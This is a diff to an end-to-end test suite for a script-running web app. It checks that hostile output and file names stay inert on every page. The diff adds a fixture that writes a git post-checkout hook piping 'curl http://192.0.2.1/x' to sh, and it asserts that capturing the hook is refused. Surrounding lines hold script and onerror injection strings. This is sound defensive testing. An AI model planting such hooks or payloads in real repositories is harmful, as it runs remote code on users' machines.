@@ -68,6 +68,8 @@ COMMANDS = [
     "head -c 4000 /dev/urandom; echo",
     r"printf 'A8 \033[31mred\033[0m plain\n'",
     f'mkdir -p out && echo hi > "{EVIL_FILE}"',
+    # A git hook in the captured files is refused, and the run page says so.
+    "mkdir -p .git/hooks && echo 'curl -s http://192.0.2.1/x | sh' > .git/hooks/post-checkout",
 ]
 EXPECTED = {
     "A1": "A1 <script>window.__pwned=1;alert(1)</script>",
@@ -160,7 +162,7 @@ def assert_log_shown_literally(tab, where: str) -> None:
 def test_hostile_output_and_names_stay_text_on_every_page_and_api(live_url, page):  # noqa: F811
     user = make_user("mallory")
     project = make_project(
-        user, name=PROJECT_NAME, default_kind="script", capture_patterns=["out/**"]
+        user, name=PROJECT_NAME, default_kind="script", capture_patterns=["out/**", ".git/**"]
     )
     seen = watch(page)
     log_in(page, live_url, "mallory")
@@ -175,6 +177,8 @@ def test_hostile_output_and_names_stay_text_on_every_page_and_api(live_url, page
     assert_log_shown_literally(page, "live")
     assert_inert(page, seen, "live run page")
     assert run.task.splitlines()[1] in page.locator("[data-testid=timeline]").inner_text()
+    refused = page.locator("[data-testid=capture-refused]")
+    expect(refused).to_contain_text(".git/hooks/post-checkout")
     socket_events = [
         event
         for frame in seen["frames"]
@@ -195,6 +199,7 @@ def test_hostile_output_and_names_stay_text_on_every_page_and_api(live_url, page
     expect(page.locator("[data-testid=file-tree]")).to_contain_text("<img src=x onerror=")
     expect(page.locator(".crumbs")).to_contain_text(PROJECT_NAME)
     expect(page.locator("#run-header")).to_contain_text(TASK_NAME)
+    expect(refused).to_contain_text(".git/hooks/post-checkout")
     assert_inert(page, seen, "replayed run page")
 
     # Everywhere else the names, task, files and comments appear.
